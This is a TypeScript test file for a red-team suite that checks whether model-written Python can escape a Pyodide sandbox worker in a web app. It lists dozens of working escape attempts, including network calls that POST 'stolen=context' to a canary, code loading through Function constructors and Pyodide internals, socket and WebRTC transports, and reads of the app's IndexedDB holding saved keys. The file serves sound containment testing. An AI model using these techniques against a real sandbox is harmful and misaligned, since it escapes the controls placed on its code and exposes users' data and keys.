/**
 * The escape attempts of the red-team suite (e2e/redteam.spec.ts). Each is model-written Python, run twice:
 *  - in the app's sandbox worker, through the real path (a scripted model writes it as a ```repl block), with
 *    canary path /hit/sbx-<id>; it must get nothing: no canary hit, no `REACHED` line, no trace in the page;
 *  - as a positive control, where the same thing is known to work: by default the SAME Python in an unrestricted
 *    Pyodide worker the page starts itself (same origin, no CSP, no hardening), or page code / a page-made worker
 *    for APIs that only exist there; canary path /hit/ctl-<id>. The control must reach, or the test is not looking.
 *
 * The Python body runs inside `async def attempt()`, after a preamble (harness.ts) defining:
 *   ID, HIT (http://127.0.0.1:<canary>/hit/<ID>), WS (ws://…/hit/<ID>), CANARY (origin), HOST, PORT (the canary,
 *   or a canary of its own for `dedicated` attempts), APP_WORKER (the app's sandbox worker script URL),
 *   O(**kw) (a JS object), A(*xs) (a JS array), say(*a) (prints "[ID] …"), settle(promise, t) (await with a
 *   timeout), event(target, ok, bad, t) (wait for one of two callbacks; returns the name that fired).
 * A body prints `say('REACHED', …)` the moment it holds the capability it was after (a response, a live worker,
 * an open database…). Exceptions are caught and printed by the preamble as `BLOCKED <type>: <message>`.
 */

/** A page-side control: runs in the app page (page.evaluate); a result containing REACHED counts as reached. */
export type PageControl = (a: { hit: string; ws: string; host: string; port: number; appWorker: string }) =>
  Promise<string>;

export type Control =
  /** The same Python in an unrestricted Pyodide worker started by the page. */
  | { kind: 'python' }
  /** Page code (for APIs that workers don't have, or that need a classic worker). */
  | { kind: 'page'; run: PageControl }
  /** Another attempt's control covers the same mechanism. */
  | { kind: 'same-as'; id: string; why: string }
  | { kind: 'none'; why: string };

/** What counts as "got out": for the sandbox, any of them fails the test; the control must show `expect`. */
export type Signal = 'hit' | 'reached' | 'page';

export interface Attempt {
  id: string;
  title: string;
  /** What it tries to reach: shown in the test title. */
  target: 'network' | 'storage' | 'page';
  py: string;
  control: Control;
  /** The signal the control must produce (default: 'hit' for network, 'reached' otherwise). */
  expect?: Signal[];
  /** Needs a canary server of its own (HOST/PORT): for transports that lose the path (sockets, RTC, QUIC). */
  dedicated?: boolean;
  /** May wedge the interpreter (the block then ends by the time limit and a worker restart): run it last. */
  last?: boolean;
  /** Page-side evidence that the attempt left a trace (a database, a file, a received message); null = none. */
  pageProbe?: (id: string) => Promise<string | null>;
  /**
   * Set when the sandbox is known to let this one through and the fix is outside this suite's files: the test is
   * then marked test.fail() with this explanation (it starts failing, i.e. passing, once the sandbox is fixed).
   */
  knownLeak?: string;
}


export const ATTEMPTS: Attempt[] = [
  // ---------- network: the worker's own fetch-like APIs ----------
  { id: 'js-fetch', title: 'js.fetch', target: 'network', control: { kind: 'python' }, py: `
r = await settle(js.fetch(HIT))
say('REACHED', 'status', r.status)` },
  { id: 'pyfetch', title: 'pyodide.http.pyfetch', target: 'network', control: { kind: 'python' }, py: `
from pyodide.http import pyfetch
r = await settle(pyfetch(HIT))
say('REACHED', 'status', r.status)` },
  { id: 'open-url', title: 'pyodide.http.open_url (sync XHR)', target: 'network', control: { kind: 'python' }, py: `
from pyodide.http import open_url
say('REACHED', open_url(HIT).read()[:40])` },
  { id: 'pyxhr', title: 'pyodide.http.pyxhr', target: 'network', control: { kind: 'python' }, py: `
from pyodide.http import pyxhr
r = pyxhr.get(HIT)
say('REACHED', 'status', r.status_code)` },
  { id: 'xhr-sync', title: 'synchronous XMLHttpRequest', target: 'network', control: { kind: 'python' }, py: `
x = js.XMLHttpRequest.new()
x.open('GET', HIT, False)
x.send()
say('REACHED', 'status', x.status)` },
  { id: 'xhr-async', title: 'asynchronous XMLHttpRequest (POST)', target: 'network', control: { kind: 'python' }, py: `
x = js.XMLHttpRequest.new()
x.open('POST', HIT, True)
x.send('stolen=context')
kind = await event(x, 'onload', 'onerror')
say('REACHED' if kind == 'onload' else 'failed', kind, x.status)` },
  { id: 'websocket', title: 'WebSocket', target: 'network', control: { kind: 'python' }, py: `
w = js.WebSocket.new(WS)
kind = await event(w, 'onopen', 'onerror')
say('REACHED' if kind == 'onopen' else 'failed', kind)` },
  {
    id: 'websocket-stream', title: 'WebSocketStream', target: 'network', py: `
w = js.WebSocketStream.new(WS)
await settle(w.opened)
say('REACHED', 'opened')`,
    control: {
      kind: 'page',
      run: async ({ ws }) => {
        const WSS = (globalThis as unknown as { WebSocketStream?: new (u: string) => { opened: Promise<unknown> } })
          .WebSocketStream;
        if (!WSS) return 'WebSocketStream is not in this browser';
        await new WSS(ws).opened;
        return 'REACHED opened';
      },
    },
  },
  { id: 'eventsource', title: 'EventSource', target: 'network', control: { kind: 'python' }, py: `
es = js.EventSource.new(HIT + '/sse')
kind = await event(es, 'onopen', 'onerror')
es.close()
say('REACHED' if kind == 'onopen' else 'failed', kind)` },
  {
    id: 'send-beacon', title: 'navigator.sendBeacon', target: 'network', py: `
ok = js.navigator.sendBeacon(HIT, 'stolen=context')
say('REACHED' if ok else 'refused', ok)`,
    control: { kind: 'page', run: async ({ hit }) => `queued ${navigator.sendBeacon(hit, 'control')}` },
  },
  {
    id: 'fetch-later', title: 'fetchLater', target: 'network', py: `
r = js.fetchLater(HIT, O(activateAfter=0))
say('REACHED', 'queued', r.activated)`,
    control: {
      kind: 'page',
      run: async ({ hit }) => {
        const fl = (globalThis as unknown as { fetchLater?: (u: string, o: object) => unknown }).fetchLater;
        if (!fl) {
          // Not in this browser: the sandbox attempt then fails for that reason too; show the canary works anyway.
          await fetch(hit);
          return 'fetchLater is not in this browser (plain fetch used)';
        }
        fl(hit, { activateAfter: 0 });
        return 'queued';
      },
    },
  },

  // ---------- network: new execution contexts without the sandbox CSP ----------
  { id: 'worker-blob', title: 'new Worker(blob: URL)', target: 'network', control: { kind: 'python' }, py: `
src = f"fetch({HIT!r}).then(() => postMessage('fetched'), (e) => postMessage('error ' + e))"
url = js.URL.createObjectURL(js.Blob.new(A(src), O(type='text/javascript')))
w = js.Worker.new(url)
kind = await event(w, 'onmessage', 'onerror', 5)
say('REACHED' if kind == 'onmessage' else 'failed', kind)` },
  { id: 'worker-data', title: 'new Worker(data: URL)', target: 'network', control: { kind: 'python' }, py: `
src = f"fetch({HIT!r}).then(() => postMessage('fetched'), (e) => postMessage('error ' + e))"
w = js.Worker.new('data:text/javascript,' + js.encodeURIComponent(src))
kind = await event(w, 'onmessage', 'onerror', 5)
say('REACHED' if kind == 'onmessage' else 'failed', kind)` },
  {
    id: 'worker-app-script', title: "new Worker(the app's own sandbox script) driven by postMessage", target: 'network',
    control: { kind: 'python' }, expect: ['reached'], py: `
w = js.Worker.new(APP_WORKER, O(type='module', name='nested'))
got = []
fut = asyncio.get_event_loop().create_future()
def on(e):
    got.append(str(e.data.type))
    if e.data.type == 'status' and e.data.state != 'loading' and not fut.done():
        fut.set_result(str(e.data.state))
w.onmessage = create_proxy(on)
w.postMessage(O(type='init', interrupt=None, stdoutLimit=100000, snapshot=None, makeSnapshot=False))
state = await asyncio.wait_for(fut, 15)
say('REACHED', 'a nested sandbox worker booted:', state, got)
code = f"import js\\nawait js.fetch({HIT!r})"
w.postMessage(O(type='exec', id=1, code=code))
await asyncio.sleep(2)` },
  {
    id: 'shared-worker', title: 'SharedWorker', target: 'network', py: `
src = f"fetch({HIT!r})"
url = js.URL.createObjectURL(js.Blob.new(A(src), O(type='text/javascript')))
w = js.SharedWorker.new(url)
say('REACHED', 'shared worker created')
await asyncio.sleep(1.5)`,
    control: {
      kind: 'page',
      run: async ({ hit }) => {
        const url = URL.createObjectURL(new Blob([`fetch(${JSON.stringify(hit)})`], { type: 'text/javascript' }));
        new SharedWorker(url);
        await new Promise((r) => setTimeout(r, 1500));
        return 'created';
      },
    },
  },
  {
    id: 'service-worker', title: 'navigator.serviceWorker.register', target: 'network', py: `
reg = await settle(js.navigator.serviceWorker.register('/redteam-sw.js?hit=' + js.encodeURIComponent(HIT), js.JSON.parse('{"scope": "/redteam-sw/"}')))
say('REACHED', 'registered', reg.scope)
await asyncio.sleep(1.5)`,
    // The page registers the same (test-routed) script. Its own fetch of the canary is refused by Chromium's local
    // network access check (a routed script has no IP address, so the service worker counts as public and may not
    // call 127.0.0.1): the control shows that registering works from the page, which the sandbox cannot even try.
    expect: ['reached'],
    control: {
      kind: 'page',
      run: async ({ hit }) => {
        // Its own scope: the app's service worker (src/pwa/sw.ts) holds the base URL's.
        const reg = await navigator.serviceWorker.register('/redteam-sw.js?hit=' + encodeURIComponent(hit), { scope: '/redteam-sw/' });
        await new Promise((r) => setTimeout(r, 1500));
        await reg.unregister();
        return `REACHED registered ${reg.scope}`;
      },
    },
    pageProbe: async () => {
      // The control unregisters its own, and the app's own (src/pwa/sw.ts, at the base URL) is expected; anything
      // else was registered by someone else.
      const app = new URL('sw.js', location.href).href;
      const regs = (await navigator.serviceWorker.getRegistrations())
        .filter((r) => (r.active ?? r.waiting ?? r.installing)?.scriptURL !== app);
      return regs.length ? `service workers registered: ${regs.map((r) => r.active?.scriptURL ?? r.scope).join(', ')}` : null;
    },
  },
  {
    id: 'import-scripts', title: 'importScripts(canary)', target: 'network', py: `
js.importScripts(HIT + '.js')
say('REACHED', 'imported')`,
    // importScripts exists only in classic workers (the sandbox is a module worker): control from a classic one.
    control: {
      kind: 'page',
      run: async ({ hit }) => {
        const src = `try { importScripts(${JSON.stringify(hit + '.js')}); postMessage('REACHED imported') }
          catch (e) { postMessage('failed ' + e) }`;
        const w = new Worker(URL.createObjectURL(new Blob([src], { type: 'text/javascript' })));
        const out = await new Promise<string>((r) => {
          w.onmessage = (e) => r(String(e.data));
          w.onerror = (e) => r('error ' + e.message);
        });
        w.terminate();
        return out;
      },
    },
  },

  // ---------- network: code loading from strings or URLs ----------
  { id: 'dynamic-import', title: 'dynamic import() through the Function constructor', target: 'network',
    control: { kind: 'python' }, py: `
imp = js.Function.new('u', 'return import(u)')
await settle(imp(HIT + '.mjs'))
say('REACHED', 'imported a module from the canary')` },
  { id: 'js-eval', title: 'js.eval', target: 'network', control: { kind: 'python' }, py: `
r = await settle(js.eval(f"fetch({HIT!r})"))
say('REACHED', 'status', r.status)` },
  { id: 'run-js', title: 'pyodide.code.run_js', target: 'network', control: { kind: 'python' }, py: `
from pyodide.code import run_js
await settle(run_js(f"import({(HIT + '.mjs')!r})"))
say('REACHED', 'run_js imported a module')` },
  { id: 'function-ctor-proxy', title: 'Function constructor via .constructor of a JS function proxy', target: 'network',
    control: { kind: 'python' }, py: `
F = js.Math.max.constructor
f = F.new('u', 'return import(u)')
await settle(f(HIT + '.mjs'))
say('REACHED', 'imported through Math.max.constructor')` },
  { id: 'async-function-ctor', title: 'AsyncFunction constructor recovered from a Pyodide API', target: 'network',
    control: { kind: 'python' }, py: `
import pyodide_js
AF = None
for name in ('loadPackage', 'loadPackagesFromImports', 'runPythonAsync', 'mountNativeFS'):
    c = js.Object.getPrototypeOf(getattr(pyodide_js, name)).constructor
    if c.name == 'AsyncFunction':
        AF = c
        break
if AF is None:
    AF = js.Object.getPrototypeOf(js.Function.new('return async () => 0')()).constructor
say('found', AF.name)
f = AF.new('u', 'return await import(u)')
await settle(f(HIT + '.mjs'))
say('REACHED', 'imported through AsyncFunction')` },
  { id: 'pyodide-internals', title: "Pyodide's internal loaders (_api.loadBinaryFile, loadScript = import())",
    target: 'network', control: { kind: 'python' }, expect: ['hit'], py: `
import pyodide_js
found = []
for holder, label in ((pyodide_js._api, '_api'), (pyodide_js._module, '_module')):
    for name in dir(holder):
        low = name.lower()
        if name.startswith('_') or not any(k in low for k in ('loadscript', 'loadbinary', 'fetch', 'import', 'xhr')):
            continue
        try:
            fn = getattr(holder, name)
        except Exception:
            continue
        if callable(fn):
            found.append((f'{label}.{name}', fn))
say('internal loaders found:', [n for n, _ in found])
for name, fn in found:
    try:
        await settle(fn(f'{HIT}/{name}.mjs'))
        say('REACHED', name, 'resolved')
    except Exception as e:
        say(name, 'failed:', type(e).__name__, str(e)[:100])` },
  { id: 'load-package-url', title: 'pyodide loadPackage(url)', target: 'network', control: { kind: 'python' },
    expect: ['hit'], py: `
import pyodide_js
r = await settle(pyodide_js.loadPackage(HIT + '/redteam-1.0-py3-none-any.whl'), 5)
say('loadPackage returned', list(r) if r is not None else r)` },
  {
    id: 'micropip', title: 'micropip.install(url)', target: 'network', py: `
import pyodide_js
try:
    import micropip
except ImportError as e:
    say('no micropip:', e)
    await settle(pyodide_js.loadPackage('micropip'), 8)
    import micropip
await settle(micropip.install(HIT + '/redteam-1.0-py3-none-any.whl'), 5)
say('REACHED', 'micropip installed from the canary')`,
    control: { kind: 'same-as', id: 'load-package-url',
      why: 'micropip is not shipped (stdlib only) and cannot be fetched offline; its install path is a loadPackage(url), whose control reaches the canary' },
  },
  { id: 'fontface', title: 'FontFace(url).load()', target: 'network', control: { kind: 'python' }, expect: ['hit'], py: `
f = js.FontFace.new('redteam', f'url({HIT}.woff2)')
await settle(f.load())
say('REACHED', 'font loaded')` },
  { id: 'caches-add', title: 'caches.open().add(url)', target: 'network', control: { kind: 'python' }, expect: ['hit'], py: `
c = await settle(js.caches.open('redteam'))
await settle(c.add(HIT))
say('REACHED', 'cached the canary')` },
  { id: 'bucket-caches-add', title: 'navigator.storageBuckets → bucket.caches.add(url)', target: 'network',
    control: { kind: 'python' }, expect: ['hit'], py: `
b = await settle(js.navigator.storageBuckets.open(ID))
c = await settle(b.caches.open('redteam'))
await settle(c.add(HIT))
say('REACHED', 'cached the canary through a storage bucket')` },
  { id: 'fs-lazyfile', title: 'FS.createLazyFile(url) (Emscripten sync XHR)', target: 'network', last: true,
    control: { kind: 'python' }, py: `
import pyodide_js
pyodide_js.FS.createLazyFile('/', 'lazy-' + ID, HIT, True, False)
with open('/lazy-' + ID) as f:
    say('REACHED', f.read()[:20])` },

  // ---------- network: Python's own sockets and transports that lose the URL path (own canary each) ----------
  { id: 'py-socket', title: 'raw Python socket (Emscripten → WebSocket)', target: 'network', dedicated: true,
    control: { kind: 'python' }, expect: ['hit'], py: `
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
try:
    s.connect((HOST, PORT))
except BlockingIOError as e:
    say('connect in progress:', e)
await asyncio.sleep(1)
try:
    s.send(b'GET /hit/' + ID.encode() + b' HTTP/1.0\\r\\n\\r\\n')
    say('REACHED', 'sent on a socket')
finally:
    await asyncio.sleep(0.5)
    s.close()` },
  { id: 'urllib', title: 'urllib.request.urlopen', target: 'network', dedicated: true, control: { kind: 'python' },
    expect: ['hit'], py: `
import urllib.request
try:
    r = urllib.request.urlopen(f'http://{HOST}:{PORT}/hit/{ID}', timeout=3)
    say('REACHED', r.status)
finally:
    await asyncio.sleep(1)` },
  { id: 'http-client', title: 'http.client.HTTPConnection', target: 'network', dedicated: true,
    control: { kind: 'python' }, expect: ['hit'], py: `
import http.client
try:
    c = http.client.HTTPConnection(HOST, PORT, timeout=3)
    c.request('GET', f'/hit/{ID}')
    say('REACHED', c.getresponse().status)
finally:
    await asyncio.sleep(1)` },
  {
    id: 'webtransport', title: 'WebTransport (HTTP/3 over UDP)', target: 'network', dedicated: true, py: `
t = js.WebTransport.new(f'https://{HOST}:{PORT}/hit/{ID}')
try:
    await settle(t.ready)
    say('REACHED', 'session ready')
finally:
    await asyncio.sleep(1)`,
    control: {
      kind: 'page',
      run: async ({ host, port }) => {
        const WT = (globalThis as unknown as { WebTransport?: new (u: string) => { ready: Promise<unknown> } })
          .WebTransport;
        if (!WT) return 'WebTransport is not in this browser';
        const t = new WT(`https://${host}:${port}/hit/control`);
        await Promise.race([t.ready.catch(() => undefined), new Promise((r) => setTimeout(r, 2000))]);
        return 'tried';
      },
    },
    expect: ['hit'],
  },
  {
    id: 'rtc-peer', title: 'RTCPeerConnection with STUN/TURN servers at the canary', target: 'network', dedicated: true, py: `
servers = A(O(urls=f'stun:{HOST}:{PORT}'), O(urls=f'turn:{HOST}:{PORT}?transport=tcp', username='u', credential='p'),
            O(urls=f'turn:{HOST}:{PORT}?transport=udp', username='u', credential='p'))
pc = js.RTCPeerConnection.new(O(iceServers=servers))
pc.createDataChannel('x')
await settle(pc.setLocalDescription(await settle(pc.createOffer())))
say('REACHED', 'gathering ICE candidates')
await asyncio.sleep(2)
pc.close()`,
    control: {
      kind: 'page',
      run: async ({ host, port }) => {
        const pc = new RTCPeerConnection({ iceServers: [
          { urls: `stun:${host}:${port}` },
          { urls: `turn:${host}:${port}?transport=tcp`, username: 'u', credential: 'p' },
          { urls: `turn:${host}:${port}?transport=udp`, username: 'u', credential: 'p' },
        ] });
        pc.createDataChannel('x');
        await pc.setLocalDescription(await pc.createOffer());
        await new Promise((r) => setTimeout(r, 2500));
        pc.close();
        return 'gathered';
      },
    },
    expect: ['hit'],
  },

  // ---------- network and page: what a worker might still hold ----------
  {
    id: 'prototype-recovery', title: 'recover deleted fetch/XHR/Worker/eval through prototypes and descriptors',
    target: 'network', control: { kind: 'python' }, expect: ['hit', 'reached'], py: `
names = ['fetch', 'XMLHttpRequest', 'WebSocket', 'EventSource', 'Worker', 'importScripts', 'indexedDB', 'caches', 'eval',
         'fetchLater', 'BroadcastChannel', 'WebTransport', 'RTCPeerConnection']
objs = {'self': js.self, 'globalThis': js.globalThis, 'self.constructor.prototype': js.self.constructor.prototype}
p, i = js.Object.getPrototypeOf(js.self), 0
while p and i < 6:  # null arrives as pyodide's jsnull, which is falsy
    objs[f'proto{i}'] = p
    p, i = js.Object.getPrototypeOf(p), i + 1
for c in ('WorkerGlobalScope', 'DedicatedWorkerGlobalScope', 'EventTarget'):
    objs[c + '.prototype'] = getattr(js, c).prototype
found = {}
for where, o in objs.items():
    for n in names:
        d = js.Object.getOwnPropertyDescriptor(o, n)
        try:
            v = js.Reflect.get(o, n, js.self)  # accessors (indexedDB, caches) need the global as receiver
        except Exception:
            v = None
        if v is not None or d is not None:
            found[f'{where}.{n}'] = (v, d)
if not found:
    say('nothing left to recover')
else:
    say('REACHED', 'found', sorted(found))
    fetch = next((v for k, (v, d) in found.items() if k.endswith('.fetch') and v is not None), None)
    if fetch is not None:
        r = await settle(fetch.call(js.self, HIT))
        say('REACHED', 'recovered fetch works', r.status)` },
  {
    id: 'location', title: 'navigate the worker (location.href / assign / replace)', target: 'network', py: `
for how in ('href', 'assign', 'replace'):
    try:
        if how == 'href':
            js.location.href = HIT
        else:
            getattr(js.location, how)(HIT)
        say('no error from', how)
    except Exception as e:
        say('blocked', how, type(e).__name__)
await asyncio.sleep(0.5)
say('location is still', js.location.href)`,
    control: { kind: 'none', why: 'navigating the page would unload the app; the worker has no navigation API at all (WorkerLocation is read-only)' },
  },
  {
    id: 'page-globals', title: 'reach the page: document, window, parent, opener, top, localStorage', target: 'page', py: `
names = ('document', 'window', 'parent', 'top', 'opener', 'frames', 'frameElement', 'localStorage', 'sessionStorage',
         'cookieStore', 'clients', 'opener')
seen = [n for n in names if js.Reflect.has(js.self, n)]
say('REACHED' if seen else 'none of them:', seen)`,
    control: {
      kind: 'page',
      run: async () => {
        const seen = ['document', 'window', 'parent', 'top', 'localStorage', 'sessionStorage'].filter((n) => n in self);
        return `REACHED the page has ${seen.join(', ')}`;
      },
    },
  },
  {
    id: 'broadcast-channel', title: "BroadcastChannel('rlm') to the page", target: 'page', expect: ['page'], py: `
for n in ('rlm', 'rlm-studio', 'redteam'):
    js.BroadcastChannel.new(n).postMessage(ID)
say('posted on three channels')
await asyncio.sleep(0.5)`,
    control: { kind: 'python' },
    pageProbe: async (id) => {
      const got = (window as unknown as { __redteamBroadcasts?: string[] }).__redteamBroadcasts ?? [];
      const mine = got.filter((m) => m.includes(id));
      return mine.length ? `the page received ${mine.join(', ')}` : null;
    },
  },

  // ---------- the app's storage, and any persistent origin storage ----------
  {
    id: 'indexeddb-app', title: "the app's IndexedDB (run history, saved keys): read, then write a marker",
    target: 'storage', control: { kind: 'python' }, expect: ['reached', 'page'], py: `
idb = None
for how, get in (('indexedDB', lambda: js.indexedDB), ('self.indexedDB', lambda: js.self.indexedDB),
                 ('WorkerGlobalScope.prototype', lambda: js.Reflect.get(js.WorkerGlobalScope.prototype, 'indexedDB')),
                 ('new IDBFactory', lambda: js.IDBFactory.new())):
    try:
        v = get()
        if v is not None:
            idb = v
            break
        say('no IDBFactory via', how)
    except Exception as e:
        say('no IDBFactory via', how, type(e).__name__)
if idb is None:
    raise RuntimeError('no way to IndexedDB')
names = [d.name for d in await settle(idb.databases())]
say('databases:', names)
for name in [n for n in names if n.startswith('rlm-studio')]:
    req = idb.open(name)
    await event(req, 'onsuccess', 'onerror')
    db = req.result
    for s in list(db.objectStoreNames):
        r = db.transaction(s, 'readonly').objectStore(s).count()
        await event(r, 'onsuccess', 'onerror')
        say('REACHED', f'{name}/{s}: {r.result} records readable')
    db.close()
req = idb.open('rlm-redteam-' + ID, 1)
req.onupgradeneeded = create_proxy(lambda e: req.result.createObjectStore('s'))
await event(req, 'onsuccess', 'onerror')
tx = req.result.transaction('s', 'readwrite')
tx.objectStore('s').put('marker', 'k')
await event(tx, 'oncomplete', 'onerror')
req.result.close()
say('REACHED', 'wrote a marker database')`,
    pageProbe: async (id) => {
      const dbs = await indexedDB.databases();
      return dbs.some((d) => d.name === `rlm-redteam-${id}`) ? `database rlm-redteam-${id} exists` : null;
    },
  },
  {
    id: 'indexeddb-bucket', title: "the app's IndexedDB through navigator.storageBuckets.open('default')",
    target: 'storage', py: `
b = await settle(js.navigator.storageBuckets.open('default'))
names = [d.name for d in await settle(b.indexedDB.databases())]
say('databases in bucket "default":', names)
for name in ('rlm-studio', 'rlm-studio-keys'):
    req = b.indexedDB.open(name)
    await event(req, 'onsuccess', 'onerror')
    stores = list(req.result.objectStoreNames)
    req.result.close()
    if stores:
        say('REACHED', name, 'has the app stores', stores)
    else:
        say(name, 'opened EMPTY: a bucket of its own, not the app database')`,
    control: { kind: 'same-as', id: 'indexeddb-app',
      why: "an unhardened same-origin worker reads the app's databases through the global indexedDB (that control); a named bucket is separate storage, tested for persistence below" },
  },
  {
    id: 'opfs', title: 'persist data in the origin private file system (navigator.storage.getDirectory)',
    target: 'storage', control: { kind: 'python' }, expect: ['reached', 'page'], py: `
root = await settle(js.navigator.storage.getDirectory())
fh = await settle(root.getFileHandle(ID + '.txt', O(create=True)))
w = await settle(fh.createWritable())
await settle(w.write('stash from ' + ID))
await settle(w.close())
text = await settle((await settle(fh.getFile())).text())
say('REACHED', 'OPFS file written and read back:', text)`,
    pageProbe: async (id) => {
      try {
        const root = await navigator.storage.getDirectory();
        const f = await (await root.getFileHandle(`${id}.txt`)).getFile();
        return `OPFS holds ${id}.txt: ${await f.text()}`;
      } catch {
        return null;
      }
    },
  },
  {
    id: 'bucket-idb', title: 'persist data in a storage bucket\'s IndexedDB (navigator.storageBuckets)',
    target: 'storage', control: { kind: 'python' }, expect: ['reached', 'page'], py: `
b = await settle(js.navigator.storageBuckets.open(ID))
req = b.indexedDB.open('stash', 1)
req.onupgradeneeded = create_proxy(lambda e: req.result.createObjectStore('s'))
await event(req, 'onsuccess', 'onerror')
tx = req.result.transaction('s', 'readwrite')
tx.objectStore('s').put('stash from ' + ID, 'k')
await event(tx, 'oncomplete', 'onerror')
req.result.close()
say('REACHED', 'wrote a record into bucket', ID)`,
    pageProbe: async (id) => {
      const sb = (navigator as unknown as { storageBuckets?: { keys(): Promise<string[]> } }).storageBuckets;
      const keys = sb ? await sb.keys() : [];
      return keys.includes(id) ? `storage bucket ${id} exists` : null;
    },
  },
  {
    id: 'bucket-cache-put', title: "persist data in a storage bucket's Cache (bucket.caches.put)", target: 'storage',
    control: { kind: 'python' }, expect: ['reached'], py: `
b = await settle(js.navigator.storageBuckets.open(ID))
c = await settle(b.caches.open('stash'))
await settle(c.put('https://stash.invalid/' + ID, js.Response.new('stash from ' + ID)))
back = await settle((await settle(c.match('https://stash.invalid/' + ID))).text())
say('REACHED', 'cache entry written and read back:', back)` },
  {
    id: 'webkit-filesystem', title: 'persist data with webkitRequestFileSystemSync', target: 'storage',
    control: { kind: 'python' }, expect: ['reached'], py: `
fs = js.webkitRequestFileSystemSync(1, 1024 * 1024)
fe = fs.root.getFile(ID + '.txt', O(create=True))
fe.createWriter().write(js.Blob.new(A('stash from ' + ID)))
say('REACHED', 'wrote', fe.fullPath, 'in', fs.name, fe.file().size, 'bytes')` },
];

/** Python run before each attempt body; the attempt's own values are filled in by harness.ts. */
export const PREAMBLE = `
import js, asyncio, sys
from pyodide.ffi import to_js, create_proxy
def O(**kw):
    return to_js(kw, dict_converter=js.Object.fromEntries)
def A(*xs):
    return to_js(list(xs), dict_converter=js.Object.fromEntries)
def say(*a):
    print(f'[{ID}]', *a, flush=True)
async def settle(p, t=3.0):
    return await asyncio.wait_for(p, t)
async def event(target, ok='onload', bad='onerror', t=3.0):
    fut = asyncio.get_event_loop().create_future()
    def done(kind):
        def f(*_):
            if not fut.done():
                fut.set_result(kind)
        return create_proxy(f)
    setattr(target, ok, done(ok))
    setattr(target, bad, done(bad))
    return await asyncio.wait_for(fut, t)
`;
